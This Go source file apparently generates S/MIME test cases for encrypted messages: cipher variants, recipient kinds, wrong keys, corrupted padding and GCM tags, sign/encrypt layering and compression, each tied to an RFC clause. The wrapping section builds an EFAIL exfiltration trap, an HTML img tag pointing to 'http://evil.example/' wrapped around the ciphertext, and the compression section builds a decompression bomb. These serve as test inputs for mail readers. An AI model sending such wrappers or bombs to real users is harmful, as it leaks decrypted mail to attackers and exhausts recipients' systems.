package smimeforge

import (
	"bytes"
	"crypto/ecdh"
	"fmt"
)

// This file answers one question: which encrypted objects can be opened with the key, and what is found inside?

// encryptions makes the cases encr-*.
func (f *forge) encryptions() error {
	e := &sealer{forge: f}
	e.algorithms()
	e.recipients()
	e.keys()
	e.broken()
	e.tags()
	e.wrapping()
	e.layers()
	e.triple()
	e.compression()
	return e.err
}

// sealer makes encrypted cases and keeps the first error.
type sealer struct {
	*forge
	err error
}

// seal encrypts an entity; without recipients Bob gets it.
func (s *sealer) seal(plain []byte, edit func(*enveloped)) []byte {
	e := &enveloped{cipher: aes256CBC, recipients: []func([]byte) []byte{toRSA(s.bob)}}
	if edit != nil {
		edit(e)
	}
	der, err := e.der(plain)
	if err != nil && s.err == nil {
		s.err = fmt.Errorf("smimeforge: %w", err)
	}
	return der
}

// addSealed makes a message of one encrypted layer that Bob opens and finds unsigned.
func (s *sealer) addSealed(name, why string, edit func(*enveloped)) *Case {
	return s.addBody(name, Encrypted, why, opaque("enveloped-data", s.seal(s.part(),
		edit))).reader(s.bob).inner(Unsigned).also(Unsigned)
}

// shut says that the layer cannot be opened.
func (c *Case) shut(also ...string) *Case {
	c.Inner, c.Also = "", also
	return c
}

func (s *sealer) algorithms() {
	for _, t := range []struct {
		name string
		c    contentCipher
	}{{"aes128-cbc", aes128CBC}, {"aes192-cbc", aes192CBC}, {"aes256-cbc", aes256CBC}, {"3des", desEDE3}} {
		s.addSealed("encr-rsa-"+t.name, "RFC 8551 2.7: "+t.name+", key transport with RSA",
			func(e *enveloped) { e.cipher = t.c }).flag("no-integrity")
	}
	for _, t := range []struct {
		name string
		c    contentCipher
	}{{"aes128-gcm", aes128GCM}, {"aes192-gcm", aes192GCM}, {"aes256-gcm", aes256GCM}} {
		s.addBody("encr-rsa-"+t.name, Encrypted, "RFC 5083 and RFC 8551 2.7: AuthEnvelopedData", opaque("authEnveloped-data",
			s.seal(s.part(), func(e *enveloped) { e.cipher = t.c }))).
			reader(s.bob).inner(Unsigned).also(Unsigned)
	}
	s.addSealed("encr-oaep", "RFC 3560: RSAES-OAEP with SHA-1",
		func(e *enveloped) { e.recipients = []func([]byte) []byte{toOAEP(s.bob, nil)} })
	s.addSealed("encr-oaep-sha256", "RFC 8551 2.3: RSAES-OAEP with SHA-256",
		func(e *enveloped) { e.recipients = []func([]byte) []byte{toOAEP(s.bob, sha256Hash)} })
	s.addSealed("encr-rc2-named", "RFC 8551 B: RC2 is historic; a reader need not open it", func(e *enveloped) {
		e.alg = algID("1.2.840.113549.3.2", seq(num(58), octets(random(8))))
	}).shut(Unsupported, Weak, Invalid).flag("unsupported-cipher")
	s.addSealed("encr-cipher-unknown", "RFC 5652 6.1: a cipher that the reader does not know", func(e *enveloped) {
		e.alg = algID("1.3.6.1.4.1.99999.20", octets(random(16)))
	}).shut(Unsupported).flag("unsupported-cipher")
	s.addSealed("encr-cipher-params", "RFC 3565 4.1: the IV has sixteen octets", func(e *enveloped) {
		e.alg = algID(aes256CBC.oid,
			octets(random(5)))
	}).
		shut(Malformed, Invalid, Unsupported).flag("decryption-failed")
}

func (s *sealer) recipients() {
	agree := func(a agreement, ski bool) func(*enveloped) {
		return func(e *enveloped) { e.recipients = []func([]byte) []byte{toECDH(s.carol, s.carolKey, a, ski)} }
	}
	s.addSealed("encr-ecdh-sha256", "RFC 5753 3.1: ephemeral-static ECDH on P-256", agree(ecdhSHA256, false)).reader(s.carol)
	s.addSealed("encr-ecdh-sha1", "RFC 5753 7.1.4: the scheme with SHA-1, key wrap AES-256", agree(ecdhSHA1, false)).reader(s.carol)
	s.addSealed("encr-ecdh-ski", "RFC 5652 6.2.2: the recipient is named by rKeyId", agree(ecdhSHA256, true)).reader(s.carol)
	s.addSealed("encr-ecdh-cofactor", "RFC 5753 7.1.4: cofactor Diffie-Hellman, key wrap AES-192", agree(cofactor, false)).reader(s.carol)
	gcm := s.seal(s.part(), func(e *enveloped) { agree(ecdhSHA256, false)(e); e.cipher = aes128GCM })
	s.addBody("encr-ecdh-gcm", Encrypted, "RFC 5083: AuthEnvelopedData with key agreement", opaque("authEnveloped-data",
		gcm)).reader(s.carol).inner(Unsigned).also(Unsigned)
	s.addSealed("encr-ski", "RFC 5652 6.2.1: the recipient is named by subjectKeyIdentifier", func(e *enveloped) {
		e.recipients = []func([]byte) []byte{toRSAAs(s.bob, bySKI(s.bob), 2)}
	})
	s.addSealed("encr-second-recipient", "RFC 5652 6.1: any number of recipients", func(e *enveloped) {
		e.recipients = []func([]byte) []byte{toRSA(s.alice), toRSA(s.bob)}
	})
	s.addSealed("encr-mixed-recipients", "RFC 5652 6.2: recipients of different kinds", func(e *enveloped) {
		e.recipients = []func([]byte) []byte{toECDH(s.carol, s.carolKey, ecdhSHA256, false), toRSA(s.bob)}
	})
	s.addSealed("encr-other-kinds", "RFC 5652 6.2.3 to 6.2.5: recipients by shared key, password and unknown kinds beside Bob",
		func(e *enveloped) {
			kek := func([]byte) []byte {
				return explicit(2, num(4), seq(octets([]byte("shared"))), algID(nistArc+"1.5", nil), octets(random(24)))
			}
			pw := func([]byte) []byte {
				return explicit(3, num(0), algID(esmeArc+"3.9", algID(nistArc+"1.2", octets(random(16)))), octets(random(32)))
			}
			other := func([]byte) []byte { return explicit(4, oid("1.3.6.1.4.1.99999.21"), octets(random(8))) }
			e.recipients = []func([]byte) []byte{kek, pw, other, toRSA(s.bob)}
		})
	s.addSealed("encr-originator-info", "RFC 5652 6.1: originatorInfo with certificates, and unprotected attributes", func(e *enveloped) {
		e.origin = explicit(0, explicit(0, s.alice.der, s.inter.der))
		e.unsealed = explicit(1, attribute("1.3.6.1.4.1.99999.23", utf8s("note")))
	})
	s.addSealed("encr-none", "RFC 5652 6.1: RecipientInfos has at least one; nobody can open it",
		func(e *enveloped) { e.recipients = nil }).shut(Malformed)
	s.addSealed("encr-segments", "X.690 8.7.3: the ciphertext in segments", func(e *enveloped) { e.segments = 48 })
	n := tree(s.seal(s.part(), nil))
	for _, k := range []*node{n, n.at(1), n.at(1, 0), n.at(1, 0, 2)} {
		k.form = indefinite
	}
	s.addBody("encr-indefinite", Encrypted, "RFC 5652 2: BER is allowed", opaque("enveloped-data",
		n.bytes())).reader(s.bob).inner(Unsigned).also(Unsigned)
}

func (s *sealer) keys() {
	s.addSealed("encr-no-key", "RFC 8551 3.3: without a key the content is unknown", nil).shut()
	last := s.cases[len(s.cases)-1]
	last.Cert, last.Key = nil, nil
	s.addSealed("encr-wrong-key", "RFC 5652 6.2.1: the key belongs to none of the recipients", func(e *enveloped) {
		e.recipients = []func([]byte) []byte{toRSA(s.alice)}
	}).shut().flag("no-matching-key")
	liar := *s.bob
	liar.key = s.alice.key
	s.addSealed("encr-key-does-not-open", "RFC 5652 6.2.1: Bob is named, but the key was wrapped for somebody else",
		func(e *enveloped) {
			e.recipients = []func([]byte) []byte{func(key []byte) []byte { return toRSAAs(&liar, issuerSerial(s.bob), 0)(key) }}
		}).shut(Malformed, Invalid).flag("decryption-failed")
	_, other, err := newECDH()
	if err != nil {
		s.err = err
		return
	}
	s.ecdhFor("encr-ecdh-wrong-key", other)
	s.addSealed("encr-gcm-no-key", "RFC 5083: without a key the content is unknown",
		func(e *enveloped) { e.cipher = aes128GCM }).shut()
	last = s.cases[len(s.cases)-1]
	last.Cert, last.Key = nil, nil
}

func (s *sealer) ecdhFor(name string, k *ecdh.PrivateKey) {
	s.addSealed(name, "RFC 3394 2.2.3: the wrapped key does not pass its check", func(e *enveloped) {
		e.recipients = []func([]byte) []byte{toECDH(s.carol, k, ecdhSHA256, false)}
	}).reader(s.carol).shut(Malformed, Invalid).flag("decryption-failed")
}

func (s *sealer) broken() {
	failed := []string{Malformed, Invalid}
	bad := func(name, why string, edit func(*enveloped)) *Case {
		return s.addSealed(name, why, edit).shut(failed...).flag("decryption-failed")
	}
	bad("encr-padding-too-long", "RFC 5652 6.3: the last octet says more padding than there is text", func(e *enveloped) {
		e.pad = func([]byte) []byte { return append(bytes.Repeat([]byte{'x'}, 15), 0xef) }
	})
	bad("encr-padding-zero", "RFC 5652 6.3: padding of no octets", func(e *enveloped) {
		e.pad = func(b []byte) []byte {
			p := pad(b,
				16)
			p[len(p)-1] = 0
			return p
		}
	})
	bad("encr-padding-uneven", "RFC 5652 6.3: every octet of the padding says its length", func(e *enveloped) {
		e.pad = func(b []byte) []byte {
			p := pad(append(b, make([]byte, 12-len(b)%16+16)...), 16)
			p[len(p)-2] ^= 7
			return p
		}
	}).also(Unsigned)
	bad("encr-not-blocks", "RFC 3565 2.4: the ciphertext is no multiple of the block",
		func(e *enveloped) { e.mangle = func(b []byte) []byte { return b[:len(b)-5] } })
	bad("encr-empty-ciphertext", "RFC 5652 6.3: even an empty content has a block of padding",
		func(e *enveloped) { e.mangle = func([]byte) []byte { return nil } })
	bad("encr-cbc-last-block", "RFC 5652 6.3: a changed last block destroys the padding", func(e *enveloped) {
		e.mangle = func(b []byte) []byte { return append(b[:len(b)-16], random(16)...) }
	}).also(Unsigned)
	s.addSealed("encr-cbc-first-block", "RFC 8551 6: CBC has no integrity; a changed block opens as rubbish, or not at all",
		func(e *enveloped) {
			e.mangle = func(b []byte) []byte { b[17] ^= 1; return b }
		}).also(Malformed, Invalid).flag("no-integrity")
	whole := s.seal(s.part(), nil)
	s.addBody("encr-truncated", Malformed, "X.690 8.1.3: the object ends in the middle", opaque("enveloped-data",
		whole[:len(whole)/2])).reader(s.bob)
	n := tree(whole)
	n.at(1, 0, 2).kids = n.at(1, 0, 2).kids[:2]
	s.addBody("encr-content-absent", Encrypted, "RFC 5652 6.1: encryptedContent is optional, but then there is nothing to read",
		opaque("enveloped-data", n.bytes())).
		reader(s.bob).also(Malformed, Invalid)
}

// tags: AuthEnvelopedData that was changed.
func (s *sealer) tags() {
	gcm := func(name, why string, edit func(*enveloped)) {
		s.addBody(name, Encrypted, why, opaque("authEnveloped-data", s.seal(s.part(),
			func(e *enveloped) { e.cipher = aes256GCM; edit(e) }))).
			reader(s.bob).also(Malformed, Invalid).flag("decryption-failed")
	}
	gcm("encr-gcm-ciphertext", "RFC 5083 2.2: not one octet is released when the tag does not fit",
		func(e *enveloped) { e.mangle = func(b []byte) []byte { b[3] ^= 1; return b } })
	gcm("encr-gcm-tag", "RFC 5083 2.2: not one octet is released when the tag does not fit",
		func(e *enveloped) { e.mangleTag = func(b []byte) []byte { b[0] ^= 1; return b } })
	gcm("encr-gcm-tag-short", "RFC 5084 3.2: the tag has the length that the parameters say",
		func(e *enveloped) { e.mangleTag = func(b []byte) []byte { return b[:8] } })
	gcm("encr-gcm-tag-empty", "RFC 5084 3.2: the tag has the length that the parameters say",
		func(e *enveloped) { e.mangleTag = func([]byte) []byte { return nil } })
	attrs := setOf(attribute(oidAttrType, oid(oidData)), attribute(oidAttrTime, when(s.date)))
	gcm("encr-gcm-attributes-changed", "RFC 5083 2.2: the tag covers the authenticated attributes, one of which was changed", func(e *enveloped) {
		e.attrs, e.stored = attrs, setOf(attribute(oidAttrType, oid(oidData)), attribute(oidAttrTime, when(s.date.AddDate(0, 0, 1))))
	})
	gcm("encr-gcm-attributes-removed", "RFC 5083 2.2: the tag covers the authenticated attributes, which are gone", func(e *enveloped) {
		e.attrs, e.stored = attrs, set()
	})
	good := s.seal(s.part(), func(e *enveloped) { e.cipher, e.attrs = aes256GCM, attrs })
	s.addBody("encr-gcm-attributes", Encrypted, "RFC 5083 2.1: authenticated attributes are covered by the tag as a SET OF", opaque("authEnveloped-data", good)).
		reader(s.bob).inner(Unsigned).also(Unsigned)
}

func (s *sealer) wrapping() {
	sealed := opaque("enveloped-data", s.seal(s.part(), nil))
	open, shut := html("<img src=\"http://evil.example/"), html("\">")
	mixed := func(parts ...[]byte) []byte { return multi("multipart/mixed", outer, parts...) }
	s.addBody("encr-efail-wrap", Encrypted, "EFAIL (USENIX 2018): an unsigned HTML part opens a tag before the encrypted part",
		mixed(open, sealed, shut)).
		reader(s.bob).inner(Unsigned).also(Partial, Unsigned).flag("efail-wrap")
	s.addBody("encr-efail-wrap-no-key", Encrypted, "EFAIL (USENIX 2018): the trap is there whether or not it can be opened",
		mixed(open, sealed, shut)).
		also(Partial, Unsigned).flag("efail-wrap")
	s.addBody("encr-in-mixed", Encrypted, "RFC 8551 3.3: a part is encrypted, the text before it is not", mixed(text("see below"),
		sealed)).reader(s.bob).inner(Unsigned).also(Partial, Unsigned)
	s.addBody("encr-beside-signed", Partial, "RFC 1847 2.1: the signature covers the first part, the encrypted one beside it is shown too",
		mixed(s.entity(), sealed)).reader(s.bob)
	s.addBody("encr-beside-signed-no-key", Partial, "RFC 1847 2.1: as above, whether or not it can be opened", mixed(s.entity(), sealed))
	s.addBody("encr-no-smime-type", Encrypted, "RFC 8551 3.2.2: the object says what it is", opaque("", s.seal(s.part(),
		nil))).reader(s.bob).inner(Unsigned).also(Unsigned)
	s.addBody("encr-smime-type-lie", Encrypted, "RFC 8551 3.2.2: the parameter says signed-data, the object is encrypted",
		opaque("signed-data", s.seal(s.part(), nil))).
		reader(s.bob).inner(Unsigned).also(Unsigned).flag("smime-type-mismatch")
	s.addBody("encr-octet-stream", Encrypted, "RFC 8551 3.9: the suffix p7m decides",
		opaqueAs("application/octet-stream; name=smime.p7m", s.seal(s.part(), nil))).
		reader(s.bob).inner(Unsigned).also(Unsigned)
	s.addBody("encr-x-pkcs7", Encrypted, "RFC 8551 C: the x- name of old senders",
		opaqueAs("application/x-pkcs7-mime; name=smime.p7m", s.seal(s.part(), nil))).reader(s.bob).inner(Unsigned).also(Unsigned)
	s.addBody("encr-inner-not-mime", Encrypted, "RFC 8551 3.3: the content should be a MIME entity; here it is bare text",
		opaque("enveloped-data", s.seal([]byte("no header at all\r\n"), nil))).
		reader(s.bob).inner(Unsigned).also(Unsigned, Malformed)
	s.addDER("encr-as-signature", Malformed, "RFC 1847 2.1: an encrypted object stands where the signature should be",
		s.seal(s.part(), nil)).also(Invalid, Unsigned, Encrypted, Unsupported)
}

// addLayers makes an encrypted message of a signed entity.
func (s *sealer) addLayers(name, why string, entity []byte, inner string) *Case {
	return s.addBody(name, Encrypted, why, opaque("enveloped-data", s.seal(entity,
		nil))).reader(s.bob).inner(inner).also(without(inner, Encrypted)...)
}

// without is the word, unless it is the one to leave out.
func without(word, out string) []string {
	if word == out {
		return nil
	}
	return []string{word}
}

func (s *sealer) layers() {
	const why = "RFC 8551 3.7: sign, then encrypt"
	signedOpaque := opaque("signed-data", s.opaqueSigned())
	s.addLayers("encr-sign-then-encrypt", why, s.entity(), Valid)
	s.addLayers("encr-sign-then-encrypt-opaque", why, signedOpaque, Valid)
	s.addLayers("encr-sign-inside-tampered", "RFC 5652 5.6: the signature inside does not hold", bytes.Replace(s.entity(),
		[]byte(s.prose[:5]), []byte("ABCDE"), 1), Invalid)
	s.addLayers("encr-sign-inside-mismatch", "RFC 8550 3: the signer inside is not the author outside", clearSigned(s.part(),
		s.cmsBy(s.mallory, s.part()).der()), Mismatch)
	self := s.person(func(c *cert) { c.key = newECDSA(p256); c.issuer = c.subject })
	self.make(self.key)
	s.addLayers("encr-sign-inside-untrusted", "RFC 5280 6.1: the signer inside signed itself", clearSigned(s.part(), s.cmsBy(self,
		s.part()).der()), Untrusted)
	s.addLayers("encr-sign-inside-partial", "RFC 8551 3.5.3: inside, a text stands beside the signed part", multi("multipart/mixed",
		outer, text(evilText), s.entity()), Partial)
	s.addLayers("encr-sign-inside-lf", "RFC 8551 3.1.1: the content was encrypted with LF; the signature is over CRLF",
		toLF(s.entity()), Valid)
	s.addLayers("encr-twice", "RFC 8551 3.7: encrypt, then encrypt", opaque("enveloped-data", s.seal(s.part(), nil)),
		Encrypted).also(Unsigned)
	sealed := opaque("enveloped-data", s.seal(s.entity(), func(e *enveloped) { e.cipher = aes256GCM }))
	s.addBody("encr-gcm-sign-inside", Encrypted, why+"; AuthEnvelopedData with the older smime-type",
		sealed).reader(s.bob).inner(Valid).also(Valid)
	s.addBody("encr-sign-no-key", Encrypted, why+"; no key is given", opaque("enveloped-data", s.seal(s.entity(), nil)))
}

func (s *sealer) triple() {
	sealed := opaque("enveloped-data", s.seal(s.part(), nil))
	s.addBody("encr-encrypt-then-sign", Valid, "RFC 8551 3.7: encrypt, then sign: the outer signature is over the ciphertext",
		clearSigned(sealed, s.cms(sealed).der())).
		reader(s.bob).inner(Unsigned).also(Encrypted)
	s.addBody("encr-encrypt-then-sign-no-key", Valid, "RFC 8551 3.7: the outer signature can be checked without the key",
		clearSigned(sealed, s.cms(sealed).der())).inner(Encrypted).also(Encrypted)
	s.addBody("encr-encrypt-then-sign-other", Mismatch, "RFC 8551 3.7: somebody else signed the author's ciphertext",
		clearSigned(sealed, s.cmsBy(s.mallory, sealed).der())).
		reader(s.bob).inner(Unsigned)
	other := opaque("enveloped-data", s.seal(s.part(), nil))
	s.addBody("encr-encrypt-then-sign-tampered", Invalid, "RFC 5652 5.6: the ciphertext is not the signed one", clearSigned(other,
		s.cms(sealed).der())).reader(s.bob).inner(Unsigned)
	inside := opaque("enveloped-data", s.seal(bytes.ReplaceAll(s.entity(), []byte(edge), []byte("inner-edge")), nil))
	s.addBody("encr-triple-wrap", Valid, "RFC 2634 1.1: sign, encrypt, sign", clearSigned(inside,
		s.cms(inside).der())).reader(s.bob).inner(Valid).also(Encrypted)
	c := s.cms(inside)
	c.embedded = inside
	s.addBody("encr-triple-wrap-opaque", Valid, "RFC 2634 1.1: sign, encrypt, sign, the outer one opaque", opaque("signed-data",
		c.der())).reader(s.bob).inner(Valid).also(Encrypted)
	bad := opaque("enveloped-data", s.seal(bytes.Replace(s.entity(), []byte(s.prose[:5]), []byte("ABCDE"), 1), nil))
	s.addBody("encr-triple-wrap-inner-bad", Invalid, "RFC 2634 1.1: the outer signature holds, the inner one does not",
		clearSigned(bad, s.cms(bad).der())).
		reader(s.bob).inner(Invalid).also(Encrypted)
}

func (s *sealer) compression() {
	squeezed := func(b []byte) []byte { return opaque("compressed-data", compressed(b)) }
	s.addBody("encr-compressed", Compressed, "RFC 8551 3.6 and RFC 3274: compressed, neither signed nor encrypted",
		squeezed(s.part())).inner(Unsigned).also(Unsigned)
	s.addBody("encr-compressed-p7z", Compressed, "RFC 8551 3.2.1: the file name is smime.p7z", bytes.ReplaceAll(squeezed(s.part()),
		[]byte("smime.p7m"), []byte("smime.p7z"))).inner(Unsigned).also(Unsigned)
	s.addBody("encr-compressed-signed", Compressed, "RFC 8551 3.7: sign, then compress",
		squeezed(s.entity())).inner(Valid).also(Valid)
	s.addBody("encr-compressed-signed-bad", Compressed, "RFC 5652 5.6: the signature inside does not hold",
		squeezed(bytes.Replace(s.entity(), []byte(s.prose[:5]), []byte("ABCDE"), 1))).inner(Invalid).also(Invalid)
	z := squeezed(s.part())
	s.addBody("encr-signed-compressed", Valid, "RFC 8551 3.7: compress, then sign", clearSigned(z,
		s.cms(z).der())).inner(Unsigned).also(Compressed)
	s.addLayers("encr-encrypted-compressed", "RFC 8551 3.7: compress, then encrypt", z, Compressed).also(Unsigned)
	s.addBody("encr-compressed-broken", Compressed, "RFC 1950 2.3: the stream is damaged, nothing can be read",
		opaque("compressed-data", compressedAs([]byte("\x78\x9cbroken"), esmeArc+"3.8"))).
		also(Malformed, Invalid).flag("decompression-failed")
	s.addBody("encr-compressed-unknown", Compressed, "RFC 3274 1.1.1: an algorithm that the reader does not know",
		opaque("compressed-data", compressedAs(deflated(s.part()), "1.3.6.1.4.1.99999.22"))).
		also(Unsupported).flag("decompression-failed")
	s.addBody("encr-compressed-bomb", Compressed, "RFC 3274 4: 100 MB in 100 kB; a reader stops at a limit",
		opaque("compressed-data", compressedAs(bomb(100), esmeArc+"3.8"))).also(Malformed, Unsigned).flag("decompression-limit")
}
